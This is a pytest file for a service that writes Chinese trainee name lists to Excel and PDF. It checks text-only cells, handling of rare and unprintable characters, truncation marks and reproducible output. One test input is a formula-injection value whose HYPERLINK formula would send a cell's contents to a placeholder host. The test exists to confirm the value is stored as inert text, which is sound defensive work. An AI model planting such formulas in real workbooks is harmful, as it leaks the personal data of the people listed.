"""What is filed holds what was typed: as text, whole, on paper and in the workbook [EXP-1]."""

import io
from datetime import date, datetime, timedelta
from typing import Any

import pytest
import time_machine
from openpyxl import load_workbook
from pypdf import PdfReader

from contracts.vocabulary import SHANGHAI
from services.printing.forms import pdf, unprinted, xlsx
from services.printing.sheet import GAP, Table, TableColumn, day_zh

AT = datetime(2025, 9, 1, 9, 0, tzinfo=SHANGHAI)
COLUMNS = (TableColumn("序号", 4), TableColumn("姓名", 7), TableColumn("毕业院校", 12), TableColumn("其他", 130))


def sheet(*names: str, title: str = "录取学员信息表", size: float = 6.5) -> Table:
    rows = tuple((str(number), name, "大理大学", "") for number, name in enumerate(names, start=1))
    return Table(title, ("培训基地：云南省第三人民医院",), COLUMNS, rows, size=size)


def in_workbook(*names: str) -> list[tuple[Any, str]]:
    """The names in the file, and of what type their cells are."""
    page = load_workbook(io.BytesIO(xlsx([("名册", sheet(*names))], AT))).worksheets[0]
    return [(row[1].value, row[1].data_type) for row in page.iter_rows(min_row=4, max_row=3 + len(names))]


def printed(*names: str) -> str:
    pages = PdfReader(io.BytesIO(pdf([sheet(*names)], AT))).pages
    return "".join("".join(page.extract_text().split()) for page in pages)


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://x.invalid/?"&E4,"王")', "=1+1", "#N/A", "#DIV/0!", "+86", "-1", "@A1", "1e5", "TRUE", "'王"],
)
def test_every_cell_is_text_whatever_it_begins_with(name: str) -> None:
    assert in_workbook(name) == [(name, "s")]
    page = load_workbook(io.BytesIO(xlsx([("名册", sheet("王芳", title=name))], AT))).worksheets[0]
    assert (page["A1"].value, page["A1"].data_type) == (name, "s")


@pytest.mark.parametrize("name", ["王\u000b芳", "王\u0000芳", "王\u001f芳", "王\ud800芳", "王\uffff芳"])
def test_what_a_file_cannot_hold_leaves_a_mark_and_stops_nobodys_line(name: str) -> None:
    assert [value for value, _ in in_workbook(name, "李雷")] == [f"王{GAP}芳", "李雷"]
    text = printed(name, "李雷")
    assert f"王{GAP}芳" in text
    assert "李雷" in text


@pytest.mark.parametrize("name", ["𠮷田𨭎", "𬎆玉", "㐂民", "王·伊力哈木", "𰻝面", "﨑"])
def test_names_beyond_the_first_plane_are_printed_whole(name: str) -> None:
    assert name in printed("王芳", name)
    assert unprinted([sheet("王芳", name)]) == ()


@pytest.mark.parametrize(
    ("name", "shown"), [("\U0002f800玉", "丽玉"), ("葛\U000e0100城", "葛城"), ("王\ufe0f芳", "王芳")]
)
def test_a_character_that_is_another_by_its_own_standard_is_printed_as_that_one(name: str, shown: str) -> None:
    """Compatibility forms, and selectors of a variant that no typeface has."""
    assert unprinted([sheet("王芳", name)]) == ()
    assert shown in printed("王芳", name)


@pytest.mark.parametrize(("name", "codes"), [("𪛖田", "U+2A6D6"), ("王😀", "U+1F600")])
def test_what_no_typeface_has_leaves_a_mark_and_is_told_by_line_and_number(name: str, codes: str) -> None:
    (lacking,) = unprinted([sheet("王芳", name)])
    assert (lacking.line, lacking.heading, lacking.text, lacking.codes) == (2, "姓名", name, codes)
    text = printed("王芳", name)
    assert GAP in text
    assert codes in text


@pytest.mark.parametrize("name", ["阿" * 200, "W" * 200, "阿\n" * 100, "A-" * 100])
def test_a_row_higher_than_a_line_keeps_every_character_of_a_name_of_the_allowed_length(name: str) -> None:
    assert unprinted([sheet("王芳", name, "李雷")]) == ()
    assert "".join(name.split()) in printed("王芳", name, "李雷").replace("2大理大学", "")


def test_a_text_longer_than_a_page_is_shortened_with_a_mark_and_told() -> None:
    name = "阿" * 5_000
    (lacking,) = unprinted([sheet("王芳", name)])
    assert (lacking.line, lacking.characters) == (2, "")
    text = printed("王芳", name, "李雷")
    assert "阿…" in text
    assert "李雷" in text


def test_no_row_of_a_workbook_is_higher_than_programs_allow() -> None:
    page = load_workbook(io.BytesIO(xlsx([("名册", sheet("阿" * 200))], AT))).worksheets[0]
    assert max(row.height or 0 for row in page.row_dimensions.values()) <= 409


def test_the_same_workbook_made_later_has_the_same_bytes() -> None:
    with time_machine.travel(AT, tick=False):
        before = xlsx([("名册", sheet("王芳"))], AT)
    with time_machine.travel(AT + timedelta(days=2), tick=False):
        assert xlsx([("名册", sheet("王芳"))], AT) == before


def test_the_same_sheet_printed_later_gives_the_same_bytes() -> None:
    with time_machine.travel(AT, tick=False):
        first = pdf([sheet("王芳")], AT)
    with time_machine.travel(AT + timedelta(days=3), tick=False):
        assert pdf([sheet("王芳")], AT) == first


def test_dates_are_written_as_official_documents_write_them() -> None:
    """[GB/T 9704]."""
    assert day_zh(date(2025, 8, 10)) == "2025年8月10日"
